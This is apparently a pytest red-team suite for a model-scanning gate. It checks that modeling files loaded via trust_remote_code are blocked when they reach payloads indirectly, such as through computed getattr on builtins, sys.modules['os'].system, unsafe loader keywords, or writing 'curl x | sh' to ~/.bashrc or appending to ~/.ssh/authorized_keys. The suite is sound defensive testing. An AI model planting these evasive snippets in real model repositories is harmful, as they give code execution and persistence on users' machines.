"""Red team: remote code (trust_remote_code=True) that spells its payload indirectly.

Each case is a `modeling_*.py` a config's auto_map points at; the payload is
reached through reflection, aliases, path builders or unsafe keywords instead
of a plain `os.system(...)`. The gate must block every one (exit 1, a finding
of at least high) while ordinary modeling code that uses the same builtins
benignly still passes.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.builders import TINY_CONFIG, safetensors_bytes

INDIRECT = {
    # reflection by computed name on a namespace that holds exec/system
    "getattr-builtins-computed": ("import builtins\ngetattr(builtins, 'ex' + 'ec')('x = 1')\n",
                                  "AUD-CODE-005"),
    "builtins-subscript-computed": ("__builtins__['ev' + 'al']('1')\n", "AUD-CODE-005"),
    "sys-modules-computed": ("import sys\nsys.modules['o' + 's'].system('id')\n",
                             "AUD-CODE-005"),
    "sys-modules-constant": ("import sys\nsys.modules['os'].system('id')\n", "AUD-CODE-002"),
    "getattr-os-computed": ("import os\nname = 'sys' + 'tem'\ngetattr(os, name)('id')\n",
                            "AUD-CODE-005"),
    # aliases made by assignment instead of an import
    "module-alias-assignment": ("import os\no = os\no.system('id')\n", "AUD-CODE-002"),
    "walrus-getattr-alias": ("import os\nif (g := getattr):\n    g(os, 'sys' + 'tem')('id')\n",
                             "AUD-CODE-005"),
    # module re-exports walked through
    "os-path-os-system": ("import os.path\nos.path.os.system('id')\n", "AUD-CODE-002"),
    # code objects and function globals
    "code-object-rebuild": ("f = type(lambda: 0)\n"
                            "c = (lambda: 0).__code__.replace(co_consts=(None,))\nf(c, {})()\n",
                            "AUD-CODE-003"),
    "function-globals": ("def f(): pass\nf.__globals__['__builtins__']\n", "AUD-CODE-003"),
    "subclasses-walk": ("x = ().__class__.__base__.__subclasses__()\n", "AUD-CODE-003"),
    "breakpoint": ("breakpoint()\n", "AUD-CODE-003"),
    # operator gadgets naming a dangerous method
    "methodcaller-system": ("import operator, os\noperator.methodcaller('system', 'id')(os)\n",
                            "AUD-CODE-002"),
    # unsafe keywords on otherwise safe loaders
    "torch-load-weights-only-false": (
        "import torch\ntorch.load('extra.bin', weights_only=False)\n", "AUD-CODE-008"),
    "np-load-allow-pickle": ("import numpy as np\nnp.load('a.npy', allow_pickle=True)\n",
                             "AUD-CODE-008"),
    "yaml-unsafe-load": ("import yaml\nyaml.unsafe_load(open('c.yaml'))\n", "AUD-CODE-008"),
    # writes outside the folder through path builders
    "pathlib-home-write": ("import pathlib\n"
                           "pathlib.Path.home().joinpath('.bashrc').write_text('curl x | sh')\n",
                           "AUD-CODE-009"),
    "expanduser-open-append": ("import os\n"
                               "open(os.path.expanduser('~/.ssh/authorized_keys'), 'a')\n",
                               "AUD-CODE-009"),
    "path-div-write": ("from pathlib import Path\n(Path('/etc') / 'cron.d' / 'x').write_text('')\n",
                       "AUD-CODE-009"),
}

BENIGN = """\
import re
import sys
import torch
from pathlib import Path
from torch import nn

ACT = {"gelu": nn.GELU}
PATTERN = re.compile(r"layers\\.(\\d+)")


def helper():
    pass


globals()[helper.__name__] = helper
THIS = sys.modules[__name__]


class TinyModel(nn.Module):
    def __init__(self, config):
        super().__init__()
        self.act = getattr(nn, config.hidden_act, nn.GELU)()
        self.size = getattr(config, "hidden_size", 16)
        self.fast = torch.compile
        for key in ("a", "b"):
            setattr(self, key, getattr(config, key, None))

    def load_extra(self, folder):
        state = torch.load(Path(folder) / "extra.bin", map_location="cpu", weights_only=True)
        Path(folder, "cache").mkdir(exist_ok=True)
        return state
"""


def write_model(folder: Path, source: str) -> Path:
    folder.mkdir(parents=True)
    config = dict(TINY_CONFIG, auto_map={"AutoModel": "modeling_tiny.TinyModel"})
    (folder / "config.json").write_text(json.dumps(config))
    (folder / "modeling_tiny.py").write_text(source)
    (folder / "model.safetensors").write_bytes(safetensors_bytes({"w": ("F32", [2, 2])}))
    return folder


def findings(run_cli, folder: Path) -> tuple[int, dict[str, str]]:
    result = run_cli("scan", folder, "--format", "json")
    doc = json.loads(result.out)
    found = {f["rule"]: f["severity"] for m in doc["models"] for fr in m["files"]
             for f in fr["findings"]}
    return result.code, found


@pytest.mark.parametrize("case", sorted(INDIRECT))
def test_indirect_payload_in_remote_code_is_blocked(tmp_path, run_cli, case):
    source, rule = INDIRECT[case]
    code, found = findings(run_cli, write_model(tmp_path / "m", source))
    assert code == 1, found
    assert rule in found, found
    assert found[rule] in ("critical", "high")


def test_benign_modeling_code_with_the_same_builtins_passes(tmp_path, run_cli):
    """getattr on config/nn by name, globals() assignment, re/torch.compile, torch.load
    with weights_only=True and writes inside the model folder are ordinary."""
    code, found = findings(run_cli, write_model(tmp_path / "m", BENIGN))
    assert code == 0, found
    assert found.get("AUD-CODE-001") == "medium"
